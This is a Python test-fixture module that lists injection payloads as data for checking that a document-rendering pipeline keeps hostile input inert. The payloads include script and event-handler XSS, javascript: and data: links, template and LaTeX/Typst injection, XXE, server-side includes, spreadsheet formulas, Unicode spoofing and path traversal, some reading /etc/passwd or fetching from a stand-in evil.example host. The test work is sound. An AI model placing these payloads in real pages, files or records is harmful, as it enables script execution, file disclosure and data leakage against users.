"""Attacks that a document, a card or a record can carry, one class each, as data.

`text` goes into a body sentence of a document, `card` into a title, publisher or file name, `record` into a
cell. What they would do stands in `aim`. A marker is what a reader must see if the attack stays inert text; a
beacon (`window.pwned`, a file name, a secret) is what must never appear anywhere.
"""

import csv
import io
import json
from pathlib import Path
from typing import NamedTuple

BEACON = "pwned"
SECRET = "TOPSECRETVALUE"  # the value of an environment variable while the tests render
ZWSP, RLO, PDI, NUL, BOM, TAG = "\u200b", "\u202e", "\u2069", "\x00", "\ufeff", "\U000e0041"


class Attack(NamedTuple):
    name: str
    aim: str
    payload: str


ATTACKS = [
    Attack("script", "run a script element", "<script>window.pwned=1</script>"),
    Attack("closing-script", "break out of embedded data", "</script><script>window.pwned=2</script>"),
    Attack("closing-style", "break out of the stylesheet", "</style><style>body{display:none}</style>"),
    Attack("image-handler", "run an event handler", '<img src=x onerror="window.pwned=3">'),
    Attack("svg-handler", "run a handler inside SVG", "<svg onload=window.pwned=4><animate onbegin=window.pwned=4>"),
    Attack("frame", "load a page", '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe>'),
    Attack("javascript-link", "run on a click", "[open](javascript:window.pwned=6)"),
    Attack("data-link", "open a data page", "[open](data:text/html,<script>window.pwned=7</script>)"),
    Attack("autolink", "fetch from a network", "![x](https://evil.example/pixel.png) <https://evil.example/>"),
    Attack("shortcode-env", "read the environment", "{{< env DOSSIER_SECRET >}}"),
    Attack("shortcode-include", "read a file", "{{< include /etc/passwd >}}"),
    Attack("shortcode-escaped", "survive one unescaping", "{{{< meta title >}}}"),
    Attack("inline-code", "run an inline expression", "`{python} open('pwned.txt','w')` and `r system('id')`"),
    Attack("raw-html", "pass raw HTML through pandoc", "`<b onclick=window.pwned=8>x</b>`{=html}"),
    Attack("raw-typst", "pass raw Typst through pandoc", '`#read("/etc/passwd")`{=typst}'),
    Attack("attributes", "add attributes", '[x]{onmouseover="window.pwned=9" style="position:fixed"}'),
    Attack("fake-claim", "claim support for itself", '[$9 billion]{fact="investment-energy"} []{calc="energy-share"}'),
    Attack("fenced-div", "open a block of the brief", "::: {sources} :::"),
    Attack("heading", "become a heading", "# Evil heading {#sources}"),
    Attack("citation", "be expanded as a reference", "@fig-one and [@tbl-two] and ^[a note]"),
    Attack("lua-pattern", "upset a pattern", "%1 %b() [%w]+ (.-) %%"),
    Attack("regex-replacement", "upset a replacement", r"\1 \g<0> $1 $& $`"),
    Attack("typst-code", "run Typst", '#read("/etc/passwd") #eval("1+1") $sum_x$ @label <label> _em_ *b*'),
    Attack("typst-string", "leave a Typst string", '" + read("/etc/passwd") + "\\u{22}'),
    Attack("latex", "run LaTeX", r"\input{/etc/passwd} \write18{touch pwned.txt} $x^2$"),
    Attack("template", "fill a template", "$body$ ${7*7} {{7*7}} <%= 7*7 %> #{7*7}"),
    Attack("plotly-markup", "be read as Plotly's markup", '<a href="javascript:window.pwned=10">x</a><br><b>bold</b>'),
    Attack("entities", "come back as markup", "&lt;script&gt;window.pwned=11&lt;/script&gt; &#x202e; &#0;"),
    Attack("comment", "hide what follows", "<!-- hidden --> --> <![CDATA[ x ]]> <?php echo 1 ?>"),
    Attack("formula", "run in a spreadsheet", '=HYPERLINK("https://evil.example","x")'),
    Attack("clobbering", "take a name the page's script uses", '<form id="sources"><input name="body"></form>'),
    Attack("bidi", "show another order", f"the sum {RLO}noillim 9${PDI} was agreed"),
    Attack("zero-width", "split a number", f"$2{ZWSP}8.8 billion and 1{BOM}0 percent"),
    Attack("homoglyph-digits", "look like a number", "$２８ billion, ٣٠ percent and 𝟚𝟘𝟚𝟝"),
    Attack("tag-characters", "carry unseen text", f"plain{TAG}{TAG} words"),
    Attack("combining", "spill over lines", "Z" + "\u0300\u0301\u0302\u0303" * 12 + " marks"),
    Attack("null", "end a string early", f"before{NUL}after"),
    Attack("control", "steer a terminal", "\x1b[2J\x1b]0;pwned\x07 text"),
    Attack("long-word", "burst the page", "A" * 400),
    Attack("redirect", "send the reader elsewhere", '<meta http-equiv="refresh" content="0;url=//evil.example/"><base href="//evil.example/">'),
    Attack("stylesheet", "fetch or hide by style", "<link rel=stylesheet href=//evil.example/x.css> @import url(//evil.example/y.css); p{background:url(//evil.example/z)}"),
    Attack("mutation", "become another tree when parsed again", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=13&gt;">'),
    Attack("invoker", "press the page's own buttons", '<button popovertarget="theme" commandfor="theme" command="show-modal">[28]</button><a ping="//evil.example/" href="#sources">x</a>'),
    Attack("speculation", "have the browser fetch ahead", '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script><link rel=prerender href="//evil.example/">'),
    Attack("string-end", "end a string of the script", "\u2028window.pwned=14\u2029 \\u003c/script\\u003e `${window.pwned=15}` ');window.pwned=16//"),
    Attack("external-entity", "read a file as XML does", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;<xi:include href="file:///etc/passwd" parse="text"/>'),
    Attack("server-include", "run on the server", '<!--#exec cmd="touch pwned.txt" --> <!--#include virtual="/etc/passwd" -->'),
    Attack("pdf-action", "run when the paper is opened", ") >> /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Launch (pwned) endobj"),
    Attack("variation-selectors", "carry unseen bytes", "smiling\ufe0f\U000e0148\U000e0165\U000e016c\U000e016c\U000e016f words"),
    Attack("line-separators", "break a line where none is", "one\x0btwo\x0cthree\x85four\u2028five\u2029six\x1cseven"),
    Attack("reference-definition", "define what a link of the brief means", "[sources]: javascript:window.pwned=17 *[GB]: evil [^1]: evil"),
    Attack("text-directive", "add to the address of a link", "#:~:text=evil&text=-,x,-%0d%0aSet-Cookie:%20a=b#claim-trade"),
    Attack("nesting", "exhaust a parser", "[({<" * 300),
    Attack("imitated-signs", "look like a sum", "$2\u066b5 billion, \u24605 per cent, \uff22\uff50 \U0001d5f5\U0001d5fc\U0001d5f9\U0001d5f1\U0001d5f2\U0001d5f1 30\u066a"),
    Attack("path", "leave the folder", "../../../../etc/passwd file:///etc/passwd"),
]
# The classes that a row of the record can carry as well as a sentence: all, its tables being read and shown as text.
COLUMNS = (
    "id episode date precision sort_date year event kind tags tags_indirect stance twin chain actors_first actors_second "
    "actor_type place publisher title url published same_as second_url side confidence tier since note"
).split()
FIGURES = (
    "id measure period value unit as_reported bound low high kind basis derived reporter publisher url published "
    "second_url note inference"
).split()
QUERIES = "no round year family topic query results outcome".split()
# In cards: values that are refused outright, by field.
REFUSED_CARDS = [
    Attack("card-traversal", "read another file", "../../etc/passwd"),
    Attack("card-absolute", "read another file", "/etc/passwd"),
    Attack("card-hidden", "read a hidden file", ".env"),
]
REFUSED_LINKS = [
    Attack("link-javascript", "run on a click", "javascript:window.pwned=12"),
    Attack("link-data", "open a data page", "data:text/html,<script>1</script>"),
    Attack("link-file", "open a local file", "file:///etc/passwd"),
]


def document(attacks=ATTACKS) -> str:
    """A plausible item whose body sentences carry the attacks, and whose facts can still be found."""
    opening = (
        "Minister hails new deal\n\nASTANA, 3 May 2024\n\n"
        "Kazakh Foreign Minister Murat Nurtleu met UK Foreign Secretary David Cameron in Astana on Thursday, "
        "and the two discussed trade worth $2.5 billion a year.\n\n"
    )
    body = "\n\n".join(
        f"The minister said that item {number} of the list was the {attack.name} matter {attack.payload} and that "
        f"exports worth ${number} million were at stake."
        for number, attack in enumerate(attacks, 1)
    )
    return f"{opening}{body}\n"


def record(folder: Path) -> None:
    """A public record in `folder`, each row with an attack in every cell that holds words, and links that would run."""
    rows = [_event(number, attack.payload) for number, attack in enumerate([*ATTACKS, *REFUSED_LINKS])]
    for row, attack in zip(rows[-len(REFUSED_LINKS) :], REFUSED_LINKS, strict=True):
        row |= {"url": attack.payload, "second_url": attack.payload, "event": f"A link that {attack.name} carries"}
    figure = dict.fromkeys(FIGURES, "") | {
        "id": "a-sum", "measure": "trade", "period": "2024", "value": "5", "unit": "USD million", "bound": "exact",
        "low": "5", "high": "5", "kind": "flow", "url": "https://example.org/sum", "published": "2024-05-03",
        "as_reported": ATTACKS[0].payload, "reporter": ATTACKS[3].payload, "publisher": ATTACKS[8].payload,
    }  # fmt: skip
    folder.mkdir(parents=True)
    tables = {"events": (COLUMNS, rows), "figures": (FIGURES, [figure]), "queries": (QUERIES, [])}
    for name, (columns, lines) in tables.items():
        out = io.StringIO(newline="")
        writer = csv.DictWriter(out, columns)
        writer.writeheader()
        writer.writerows(lines)
        (folder / f"{name}.csv").write_bytes(out.getvalue().encode())
    fields = {name: [{"name": c, "type": "string", "description": c} for c in columns] for name, (columns, _) in tables.items()}
    resources = [{"path": f"{name}.csv", "schema": {"fields": one}} for name, one in fields.items()]
    (folder / "datapackage.json").write_text(json.dumps({"name": "hostile", "resources": resources}))


def row(number: int) -> str:
    """The id of the row that carries the attack of that number."""
    return f"2024-05-{number:03d}"


def in_a_cell(payload: str) -> str:
    """An attack as a table can hold it: a null byte would end the reading, and is tried in the document."""
    return payload.replace("\x00", "\ufffd")


def _event(number: int, payload: str) -> dict[str, str]:
    words = in_a_cell(payload)
    return dict.fromkeys(COLUMNS, "") | {
        "id": row(number), "episode": f"e{number}", "date": "2024-05-03", "precision": "day",
        "sort_date": "2024-05-03", "year": "2024", "kind": "meeting", "tags": "energy", "stance": "neutral",
        "twin": "false", "actor_type": "government", "side": "third", "tier": "core", "since": "1", "published": "2024-05-03",
        "url": f"https://example.org/{number}", "event": f"Event {number}: {words}", "confidence": "high",
        **dict.fromkeys(("actors_first", "actors_second", "place", "publisher", "title", "note"), words),
    }  # fmt: skip


def mapped(subject: str) -> str:
    """The subject of the scaffold with that record in it."""
    def columns(names):
        return "{" + ", ".join(f'"{name}": "{name}"' for name in names) + "}"

    tables = {"events": COLUMNS, "figures": FIGURES, "queries": QUERIES}
    told = "".join(f"  {name}: {{file: {name}.csv, columns: {columns(names)}}}\n" for name, names in tables.items())
    tagged = subject.replace('{id: energy, label: Energy, colour: "#B45F06"}', '{id: energy, label: Energy, colour: "#B45F06", tags: [energy]}')
    return (
        f"{tagged}\nactors: [{{id: all, label: all, types: [government]}}]\n"
        f"tiers: [{{id: core, label: main, tiers: [core]}}]\nrecord:\n  folder: record\n{told}"
    )
